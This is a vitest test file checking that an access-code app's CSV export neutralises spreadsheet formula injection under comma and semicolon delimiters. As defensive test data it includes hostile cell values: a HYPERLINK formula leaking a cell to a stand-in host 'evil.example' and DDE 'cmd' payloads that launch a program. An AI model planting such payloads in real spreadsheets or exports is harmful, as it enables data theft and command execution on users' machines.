// The codes CSV opened in a spreadsheet (OWASP "CSV Injection"): no cell may start a formula,
// whether the spreadsheet splits on commas (RFC 4180) or on semicolons (Excel in Swedish).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { codesCsv } from '../../src/access-codes/batch-files.js';
import { csvCell, csvRow } from '../../src/lib/csv.js';
import { createTestContext, type TestContext } from '../helpers/deps.js';
import { createTestApi, type TestApi } from '../helpers/api.js';
import { createPersonViaApi, holdsSync, logSeeds } from './support.js';

logSeeds('csv-export');

const FORMULA_START = /^[=+\-@\t\r]/;

/** Splits one line the way a spreadsheet does with `delimiter`: a quote opens a field only at its start. */
function splitLine(line: string, delimiter: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i += 1;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') {
          i += 1;
          break;
        } else value += line[i++];
      }
      while (i < line.length && line[i] !== delimiter) value += line[i++];
      cells.push(value);
    } else {
      const end = line.indexOf(delimiter, i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length : end;
    }
    i += 1;
  }
  return cells;
}

describe('csvCell', () => {
  it('neutralises every cell that starts with = + - @ tab or CR with a leading apostrophe', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+SUM(A1)')).toBe("'+SUM(A1)");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell(-5)).toBe("'-5");
    expect(csvCell('=HYPERLINK("http://evil.example","x")')).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"');
  });

  it('quotes per RFC 4180 (comma, quote, CR, LF) and also a semicolon; leaves plain text alone', () => {
    expect(csvCell('Åsa Öberg')).toBe('Åsa Öberg');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('Anna;Berg')).toBe('"Anna;Berg"');
    expect(csvCell('Anna;=1+1')).toBe('"Anna;\'=1+1"');
    expect(csvCell('x; @SUM(A1)')).toBe('"x;\' @SUM(A1)"');
    expect(csvCell('BCDF-GHJK-LMNP-QRST')).toBe('BCDF-GHJK-LMNP-QRST');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvRow(['a', '=b', 'c,d'])).toBe('a,\'=b,"c,d"\r\n');
  });

  it('for any text: no cell starts a formula under either delimiter, and harmless text reads back unchanged', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc
        .array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'a', ' ', 'Å'), { maxLength: 12 })
        .map((parts) => parts.join('')),
    );
    holdsSync(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        const line = csvRow(cells);
        const [record] = parse(line, { relax_column_count: true }) as string[][];
        expect(record).toHaveLength(cells.length);
        cells.forEach((cell, index) => {
          const read = record![index]!;
          expect(read).not.toMatch(FORMULA_START);
          if (FORMULA_START.test(cell)) expect(read.startsWith(`'${cell.slice(0, 1)}`)).toBe(true);
          if (!FORMULA_START.test(cell) && !/;(?="*[\t\r]|["\s]*[=+\-@])/.test(cell)) expect(read).toBe(cell);
        });
        if (!/[\r\n]/.test(cells.join(''))) {
          for (const cell of splitLine(line.replace(/\r\n$/, ''), ';')) expect(cell).not.toMatch(FORMULA_START);
        }
      }),
      500,
    );
  });
});

describe('the bulk codes CSV (POST /api/v1/access-codes/bulk, Accept: text/csv)', () => {
  let context: TestContext;
  let api: TestApi;
  const hostileNames = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'Anna;=1+1',
    'Bo, "the boss"',
    '\t=1+1',
    'Plain Person',
  ];

  beforeAll(async () => {
    context = await createTestContext('sqlite');
    api = await createTestApi(context);
    for (const [index, name] of hostileNames.entries())
      await createPersonViaApi(api, { name, employeeId: `H-${index}` });
  });
  afterAll(async () => {
    await api.app.close();
    await context.close();
  });

  it('neutralises hostile names and keeps every row one record', async () => {
    const response = await api.app.inject({
      method: 'POST',
      url: '/api/v1/access-codes/bulk',
      headers: { ...api.admin, accept: 'text/csv' },
      payload: { filter: { hasEmail: false } },
    });
    expect(response.statusCode).toBe(201);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="keyslip-codes-[\w-]+\.csv"$/);

    const records = parse(response.body) as string[][];
    expect(records[0]).toEqual(['name', 'username', 'code', 'expiresAt']);
    const rows = records.slice(1);
    expect(rows).toHaveLength(hostileNames.length);
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      expect(row[2]).toMatch(/^[BCDFGHJKLMNPQRSTVWXZ]{4}(-[BCDFGHJKLMNPQRSTVWXZ]{4}){3}$/);
    }
    const names = rows.map((row) => row[0]).sort();
    // Names are stored cleaned (a leading tab is trimmed away), then neutralised on the way out.
    const expected = hostileNames
      .map((name) => name.trim())
      .map((name) => (FORMULA_START.test(name) ? `'${name}` : name).replace(/;=/g, ";'="))
      .sort();
    expect(names).toEqual(expected);

    // Opened by a spreadsheet that splits on semicolons: still no cell starts a formula.
    for (const line of response.body.split('\r\n').filter((l) => l !== '')) {
      for (const cell of splitLine(line, ';')) expect(cell, line).not.toMatch(FORMULA_START);
    }
  });
});

describe('codesCsv', () => {
  const items = ['Plain Person', '=1+1', 'Anna;=1+1', 'Bo, "the boss"', '-2+3'].map((name, i) => ({
    id: `p${i}`,
    name,
    username: i % 2 === 0 ? null : `@user${i}`,
    code: 'BCDF-GHJK-LMNP-QRST',
    expiresAt: Date.UTC(2026, 0, 1 + (i % 2)),
  }));
  const read = async (source: AsyncIterable<unknown>): Promise<string> => {
    let text = '';
    for await (const chunk of source) text += String(chunk);
    return text;
  };
  async function* inPages(size: number) {
    for (let i = 0; i < items.length; i += size) yield items.slice(i, i + size);
  }

  it('writes the same neutralised rows however the codes are split into pages', async () => {
    const whole = await read(codesCsv(inPages(items.length)));
    for (const size of [1, 2]) expect(await read(codesCsv(inPages(size)))).toBe(whole);
    const expected = [csvRow(['name', 'username', 'code', 'expiresAt'])];
    for (const item of items)
      expected.push(csvRow([item.name, item.username, item.code, new Date(item.expiresAt).toISOString()]));
    expect(whole).toBe(expected.join(''));
  });
});
